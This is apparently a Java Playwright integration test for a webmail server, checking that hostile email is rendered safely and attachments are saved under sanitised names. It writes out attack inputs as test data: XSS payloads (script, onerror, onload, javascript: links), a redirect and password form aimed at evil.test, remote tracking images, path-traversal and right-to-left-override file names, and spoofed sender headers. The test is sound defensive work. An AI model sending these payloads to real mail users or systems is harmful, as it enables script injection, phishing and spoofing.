// SPDX-License-Identifier: Apache-2.0
package org.wildpost.it;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What an enemy sends, opened in a real browser: it acts on nothing, fetches nothing unasked, and saves under a harmless name. */
@ExtendWith(DemoServer.class)
class HostileMailIT {
    private static final byte[] PIXEL = Base64.getDecoder()
            .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

    private static Chromium chromium;

    @BeforeAll
    static void startBrowser() {
        chromium = Chromium.start();
    }

    @AfterAll
    static void stopBrowser() {
        if (chromium != null) {
            chromium.close();
        }
    }

    @Test
    void showsHtmlThatReachesNothingAndFetchesPicturesOnlyWhenAsked(Instance server) throws IOException {
        List<String> fetched = new CopyOnWriteArrayList<>();
        HttpServer elsewhere = elsewhere(fetched);
        String token = "html-" + UUID.randomUUID();
        try (BrowserContext context = chromium.person(server, 1280, 800)) {
            try (SmtpSender sender = new SmtpSender(server.port(25))) {
                sender.sendRaw(
                        "alice@demo.test",
                        html(token, "http://127.0.0.1:" + elsewhere.getAddress().getPort()));
            }
            Page page = Chromium.loggedIn(context, "alice@demo.test");
            page.onDialog(dialog -> Assertions.fail("a message opened a dialog"));
            page.getByText(token).click();
            Frame message = page.waitForSelector("iframe").contentFrame();
            message.waitForSelector("h1:has-text('Offers')");
            Assertions.assertThat(message.evaluate("self.origin")).isEqualTo("null");
            Assertions.assertThat(message.evaluate(
                            "() => { try { return parent.document.title; } catch (e) { return 'unreachable'; } }"))
                    .isEqualTo("unreachable");
            Assertions.assertThat(message.evaluate("document.querySelector('img[alt=own]').naturalWidth"))
                    .isEqualTo(1);
            Assertions.assertThat(message.content())
                    .doesNotContain("<script", "onerror", "javascript:", "<form", "<meta http-equiv", "elsewhere.css");
            Assertions.assertThat(page.title()).startsWith(token);
            Assertions.assertThat(fetched).isEmpty();

            page.getByText("Show images").click();
            page.frameLocator("iframe").locator("img[alt=remote]").waitFor();
            page.waitForCondition(() -> !fetched.isEmpty());
            Assertions.assertThat(fetched)
                    .allSatisfy(
                            request -> Assertions.assertThat(request).isEqualTo("/pixel.png cookie=null referer=null"));
            page.getByText("Show as plain text").click();
            assertThat(page.getByText("Offers in plain words")).isVisible();
        } finally {
            elsewhere.stop(0);
        }
    }

    @Test
    void savesFilesUnderNamesThatHarmNobody(Instance server) throws IOException {
        String token = "files-" + UUID.randomUUID();
        try (BrowserContext context = chromium.person(server, 1280, 800);
                SmtpSender sender = new SmtpSender(server.port(25))) {
            sender.sendRaw("alice@demo.test", files(token));
            Page page = Chromium.loggedIn(context, "alice@demo.test");
            page.getByText(token).click();
            for (String name :
                    new String[] {"passwd", "invoicefdp.exe", "htaccess", "img src=x onerror=alert(1).svg"}) {
                Download download =
                        page.waitForDownload(() -> page.getByText(name, new Page.GetByTextOptions().setExact(true))
                                .click());
                Assertions.assertThat(download.suggestedFilename()).isEqualTo(name);
            }
            Assertions.assertThat(page.url()).contains("/mail/read");
        }
    }

    @Test
    void turnsNoTextAroundThatStandsBesideTheSenders(Instance server) throws IOException {
        String token = "turn-" + UUID.randomUUID().toString().substring(0, 8);
        try (BrowserContext context = chromium.person(server, 1280, 800);
                SmtpSender sender = new SmtpSender(server.port(25))) {
            sender.sendRaw(
                    "alice@demo.test",
                    "From: =?utf-8?q?=E2=80=AEknab?= <x@evil.test>\r\nTo: alice@demo.test\r\nSubject: =?utf-8?q?"
                            + token + "=E2=80=AE?=\r\n\r\nplain words\r\n");
            Page page = Chromium.loggedIn(context, "alice@demo.test");
            for (String part : new String[] {".wp-subject", ".wp-preview", ".wp-c-people .wp-theirs"}) {
                assertThat(page.locator("tr:has-text('" + token + "') " + part)).hasCSS("unicode-bidi", "isolate");
            }
        }
    }

    private static HttpServer elsewhere(List<String> fetched) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            fetched.add(exchange.getRequestURI() + " cookie="
                    + exchange.getRequestHeaders().getFirst("Cookie") + " referer="
                    + exchange.getRequestHeaders().getFirst("Referer"));
            exchange.getResponseHeaders().add("Content-Type", "image/png");
            exchange.sendResponseHeaders(200, PIXEL.length);
            exchange.getResponseBody().write(PIXEL);
            exchange.close();
        });
        server.start();
        return server;
    }

    private static String html(String subject, String elsewhere) {
        return """
                From: "Shop" <news@shop.test>
                To: alice@demo.test
                Subject: %1$s
                MIME-Version: 1.0
                Content-Type: multipart/related; boundary=r

                --r
                Content-Type: multipart/alternative; boundary=a

                --a

                Offers in plain words
                --a
                Content-Type: text/html

                <html><head><meta http-equiv="refresh" content="0;url=https://evil.test">
                <link rel=stylesheet href="%2$s/elsewhere.css"><base href="%2$s/"></head>
                <body onload="parent.document.title='taken'" background="%2$s/background.png"><h1>Offers</h1>
                <script>parent.document.title='taken';top.location='https://evil.test'</script>
                <img src=x onerror="alert(1)"><img src="cid:own@shop" alt=own><img src="%2$s/pixel.png" alt=remote>
                <div style="background:url(%2$s/style.png);position:fixed;top:0">x</div>
                <a href="javascript:alert(1)">x</a><form action="https://evil.test"><input name=password></form>
                <iframe src="https://evil.test"></iframe><svg onload="alert(1)"></svg></body></html>
                --a--
                --r
                Content-Type: image/png
                Content-ID: <own@shop>
                Content-Transfer-Encoding: base64

                %3$s
                --r--
                """.formatted(subject, elsewhere, Base64.getEncoder().encodeToString(PIXEL))
                .replace("\n", "\r\n");
    }

    private static String files(String subject) {
        StringBuilder message = new StringBuilder("From: x@evil.test\r\nTo: alice@demo.test\r\nSubject: " + subject
                + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nfiles\r\n");
        for (String name : new String[] {
            "filename=\"../../etc/passwd\"",
            "filename*=utf-8''invoice%E2%80%AEfdp.exe",
            "filename=\".htaccess\"",
            "filename=\"<img src=x onerror=alert(1)>.svg\""
        }) {
            message.append("--m\r\nContent-Type: text/html\r\nContent-Disposition: attachment; ")
                    .append(name)
                    .append("\r\n\r\n<script>alert(1)</script>\r\n");
        }
        return message.append("--m--\r\n").toString();
    }
}
